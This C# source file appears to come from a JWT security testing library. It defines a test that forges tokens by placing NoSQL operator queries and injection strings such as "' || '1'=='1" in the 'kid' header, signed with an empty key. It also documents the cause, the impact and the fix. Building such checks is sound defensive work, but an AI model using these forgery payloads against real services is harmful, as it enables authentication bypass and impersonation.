using System.Text.Json.Nodes;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// The kid is a query of its own: an operator where the document database expects a name picks another document, one whose
/// secret is missing or was wiped. RFC 8725 3.10; OWASP ASVS 1.2.4.
/// </summary>
internal sealed class KidNoSql : JwtAttack
{
    private static readonly string[] Texts =
        ["' || '1'=='1", "'; return true; var x='", "x\", \"kid\": {\"$ne\": \"x\"}, \"x\": \"", "[$ne]=x"];

    public override string Id => "CRY1078";

    public override JwtFamily Family => JwtFamily.KeyIdInjection;

    public override IReadOnlyList<int> Cwe => [943];

    public override IReadOnlyList<string> References => ["RFC 8725 3.10", "RFC 7515 4.1.4", "ASVS 1.2.4"];

    public override string Cause => "runs the kid as a query for a document, and accepted the empty secret of the one it picked";

    public override string Why => "whoever chooses the document chooses the key, so anyone can become anyone";

    public override string Fix =>
        "refuse a kid that is not a string (RFC 7515 4.1.4) and query with Builders<Key>.Filter.Eq, never with parsed JSON";

    internal override IReadOnlyList<string> ExplainedBy => ["CRY1082", "CRY1083"];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        var token = attacker.Token;
        foreach (var query in Queries(token.Kid ?? ""))
        {
            var text = query.ToJsonString();
            yield return new Forgery(HmacJws.SignUnderKid(token, query, []), $"kid {text}, empty key");
            yield return new Forgery(HmacJws.SignUnderKid(token, text, []), $"kid {text} as text, empty key");
        }

        foreach (var text in Texts)
        {
            yield return new Forgery(HmacJws.SignUnderKid(token, text, []), $"kid {text}, empty key");
        }
    }

    private static IEnumerable<JsonObject> Queries(string genuine) =>
    [
        // every document, and every document but the genuine one
        new() { ["$ne"] = null },
        new() { ["$gt"] = "" },
        new() { ["$regex"] = ".*" },
        new() { ["$exists"] = true },
        new() { ["$exists"] = false },
        new() { ["$ne"] = genuine },
        new() { ["$nin"] = new JsonArray(genuine) },
        new() { ["$gt"] = genuine },
        new() { ["$lt"] = genuine },
        new() { ["$not"] = new JsonObject { ["$eq"] = genuine } },
    ];
}
